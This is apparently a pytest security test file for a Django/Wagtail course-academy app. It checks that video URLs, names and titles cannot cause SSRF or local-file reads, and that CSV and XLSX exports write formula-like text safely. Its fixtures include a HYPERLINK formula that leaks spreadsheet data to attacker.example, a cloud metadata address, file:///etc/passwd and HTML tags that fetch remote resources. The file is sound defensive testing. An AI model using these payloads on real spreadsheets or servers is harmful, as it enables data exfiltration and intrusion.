"""What users type never makes the server fetch anything (SSRF, local files) and never
runs as a formula in a coordinator's spreadsheet (CSV injection)."""

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader
from wagtail.log_actions import log

from academy.exports import AcademyReportView
from courses.blocks import VideoBlock
from courses.models import AssessmentPage, ModulePage
from courses.services import enrol
from tests.academy.sessions import make_session
from tests.courses.builders import build_course
from tests.factories import UserFactory

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'


def test_a_video_address_on_this_machine_is_refused_without_a_request(local_server, db):
    block = VideoBlock()

    for address in (
        f"{local_server}/watch?v=1",
        "http://169.254.169.254/latest/meta-data/",
        "file:///etc/passwd",
    ):
        value = block.to_python({"video": address, "caption": "", "transcript": ""})
        with pytest.raises(ValidationError):
            block.clean(value)

    assert local_server.hits == []


def test_the_transcript_fetches_nothing_named_in_a_name_or_a_title(client, lisbon, local_server):
    officer = UserFactory(full_name=f'<img src="{local_server}/name.png">')
    enrol(
        officer,
        make_session(
            lisbon.academy,
            title=f'<link rel="stylesheet" href="{local_server}/x.css"> file:///etc/passwd',
        ),
    )
    client.force_login(officer)

    response = client.get(reverse("transcript"))

    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert local_server.hits == []
    assert f'<img src="{local_server}/name.png">' in text  # printed as text
    assert "root:" not in text


def test_a_name_typed_as_a_formula_stays_text_in_the_csv_and_xlsx_exports(
    client, madrid, madrid_coordinator
):
    course = build_course(madrid.academy, modules=1)
    session = make_session(madrid.academy, course=course, capacity=5)
    enrol(UserFactory(full_name=FORMULA), session)
    enrol(UserFactory(full_name="-1+2"), session)
    client.force_login(madrid_coordinator)
    url = reverse("home_session_progress", args=[session.pk])

    exported = b"".join(client.get(url, {"export": "csv"}).streaming_content).decode("utf-8-sig")
    names = {row["Officer"] for row in csv.DictReader(io.StringIO(exported))}
    workbook = b"".join(client.get(url, {"export": "xlsx"}).streaming_content)
    sheet = load_workbook(io.BytesIO(workbook)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]

    assert names == {"'" + FORMULA, "'-1+2"}
    assert {cell.value for cell in cells} == {FORMULA, "-1+2"}
    assert {cell.data_type for cell in cells} == {"s"}


def test_a_title_typed_as_a_formula_stays_text_in_the_export_headings(
    client, madrid, madrid_coordinator
):
    course = build_course(madrid.academy, modules=1)
    ModulePage.objects.child_of(course).update(title="-2+3")
    AssessmentPage.objects.child_of(course).update(title=FORMULA)
    session = make_session(madrid.academy, course=course, capacity=5)
    enrol(UserFactory(), session)
    client.force_login(madrid_coordinator)
    url = reverse("home_session_progress", args=[session.pk])

    exported = b"".join(client.get(url, {"export": "csv"}).streaming_content).decode("utf-8-sig")
    headings = next(csv.reader(io.StringIO(exported)))
    workbook = b"".join(client.get(url, {"export": "xlsx"}).streaming_content)
    cells = next(load_workbook(io.BytesIO(workbook)).active.iter_rows(max_row=1))

    assert "1. -2+3" in headings and f"'{FORMULA} (%)" in headings
    by_value = {cell.value: cell.data_type for cell in cells}
    assert by_value[f"{FORMULA} (%)"] == "s"
    assert set(by_value.values()) == {"s"}


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_every_heading_of_every_report_is_written_as_text(rf, network_admin, export_format):
    """Headings come from titles in some reports and may in others: each export of each
    report writes them the way it writes its cells."""
    report = type(
        "Report",
        (AcademyReportView,),
        {
            "list_export": ["name"],
            "export_headings": {"name": FORMULA},
            "get_queryset": lambda self: [],
        },
    )
    request = rf.get("/", {"export": export_format})
    request.user = network_admin

    response = report.as_view()(request)

    content = b"".join(response.streaming_content)
    if export_format == "csv":
        assert next(csv.reader(io.StringIO(content.decode("utf-8-sig")))) == ["'" + FORMULA]
    else:
        (cell,) = next(load_workbook(io.BytesIO(content)).active.iter_rows(max_row=1))
        assert (cell.value, cell.data_type) == (FORMULA, "s")


def _exported_rows(client, url, export_format):
    content = b"".join(client.get(url, {"export": export_format}).streaming_content)
    if export_format == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(content)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def assert_formula_written_as_text(rows, export_format):
    """The exported cells hold ``FORMULA`` as text: after an apostrophe in the CSV, as a
    text cell in the XLSX, and nowhere as a formula."""
    cells = [cell for row in rows[1:] for cell in row]
    if export_format == "csv":
        assert "'" + FORMULA in cells and FORMULA not in cells
    else:
        assert (FORMULA, "s") in cells
        assert all(data_type != "f" for _, data_type in cells)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("report", ["aging_pages", "locked_pages"])
def test_a_page_title_typed_as_a_formula_stays_text_in_wagtails_own_reports(
    client, lisbon, lisbon_coordinator, report, export_format
):
    """Wagtail's aging and locked pages reports export page titles that trainers type."""
    course = build_course(lisbon.academy, title=FORMULA, modules=1)
    course.locked, course.locked_by = True, lisbon_coordinator
    course.save(update_fields=["locked", "locked_by"])
    client.force_login(lisbon_coordinator)

    rows = _exported_rows(client, reverse(f"wagtailadmin_reports:{report}"), export_format)

    assert_formula_written_as_text(rows, export_format)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_name_typed_as_a_formula_stays_text_in_the_site_history_export(
    client, lisbon, export_format
):
    """The site history exports who did what: officers and staff choose their own names."""
    coordinator = UserFactory(
        first_name=FORMULA,
        last_name="",
        groups=[lisbon.coordinator_group],
        force=lisbon.academy.force,
    )
    client.force_login(coordinator)
    session = make_session(lisbon.academy, title="-1+2 Night patrols with residents")
    log(instance=session, action="wagtail.edit", user=coordinator)

    rows = _exported_rows(client, reverse("wagtailadmin_reports:site_history"), export_format)

    assert_formula_written_as_text(rows, export_format)
